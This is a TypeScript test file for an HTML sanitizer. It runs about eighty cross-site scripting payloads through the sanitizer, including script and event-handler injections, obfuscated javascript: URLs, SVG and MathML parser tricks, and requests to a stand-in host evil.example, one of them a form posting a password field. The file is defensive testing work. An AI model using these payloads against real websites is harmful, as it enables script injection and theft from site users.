import { expect, test } from 'vitest'
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS, cleanHtml, plainText } from './clean-html.ts'

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="/art/a.svg" onerror="alert(1)">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="//evil.example/x.png">',
  '<img src="https://evil.example/track.gif">',
  '<img srcset="https://evil.example/x 1x">',
  '<img/src=x/onerror=alert(1)//',
  '<img src=`x`onerror=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" onmouseover=alert(1) style="position:fixed;inset:0">x</a>',
  '<a href="x" target="_self" rel="opener" class="btn" id="root">x</a>',
  '<a ping="https://evil.example" href="/">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<html manifest="x"><head><base href="https://evil.example/"></head>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p style="x:expression(alert(1))">x</p>',
  '<div class="fixed inset-0">x</div>',
  '<p id="site-config">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<td colspan="2" onmouseover=alert(1) x="">x</td>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<a href="https://ok.example/&quot;onclick=alert(1)&quot;">x</a>',
  '<<script>alert(1);//<</script>',
  '<img """><script>alert("1")</script>">',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
]

/** Every tag of the output, read strictly: an allowed name, allowed attributes in double quotes, no stray angle bracket. */
function faultsIn(html: string): string[] {
  const faults: string[] = []
  const rest = html.replaceAll(
    /<(\/?)([a-z0-9]+)((?:\s+[a-z]+="[^"<>]*")*)\s*(\/?)>/g,
    (_tag, _close, name: string, attributes: string) => {
      if (!ALLOWED_TAGS.includes(name)) faults.push(`tag ${name}`)
      for (const [, attribute = '', value = ''] of attributes.matchAll(/\s+([a-z]+)="([^"]*)"/g)) {
        if (!ALLOWED_ATTRIBUTES[name]?.includes(attribute)) faults.push(`attribute ${name} ${attribute}`)
        if (attribute === 'href' && !/^(https?:\/\/|mailto:|tel:|\/(?!\/)|#|[\w.&;-]+$)/.test(value))
          faults.push(`href ${value}`)
        if (attribute === 'src' && !/^\/(art|media)\//.test(value)) faults.push(`src ${value}`)
      }
      return ''
    },
  )
  if (/[<>]/.test(rest)) faults.push(`stray ${rest}`)
  return faults
}

test.each(attacks)('%s leaves nothing that runs', (attack) => {
  const clean = cleanHtml(attack)
  expect(faultsIn(clean)).toEqual([])
  expect(cleanHtml(clean)).toBe(clean)
  expect(faultsIn(cleanHtml(`<p>önce</p>${attack}<p>sonra</p>`))).toEqual([])
})

test('what a page is made of stays as it is', () => {
  const page =
    '<h2>Başlık</h2><p>Bir <strong>kalın</strong>, bir <em>eğik</em> &amp; 😀 ₺ söz.</p><ul><li>bir</li><li>iki</li></ul><table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table><p><a href="/promotions">bağlantı</a> <a href="mailto:a@b.example">yaz</a></p>'
  expect(cleanHtml(page)).toBe(page)
})

test('a link to another site opens apart, an own picture loads late', () => {
  expect(cleanHtml('<a href="https://example.com/a?b=1&amp;c=2">x</a>')).toBe(
    '<a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  )
  expect(cleanHtml('<img src="/art/bos/404.svg" width="40" height="x">')).toBe(
    '<img src="/art/bos/404.svg" alt="" width="40" loading="lazy" />',
  )
})

test('a main heading becomes a second one: the page has its own', () => {
  expect(cleanHtml('<h1>Kurallar</h1>')).toBe('<h2>Kurallar</h2>')
})

test('plain text keeps the words only', () => {
  expect(plainText('<p>Bir <b>iki</b></p><script>üç</script>')).toBe('Bir iki')
})
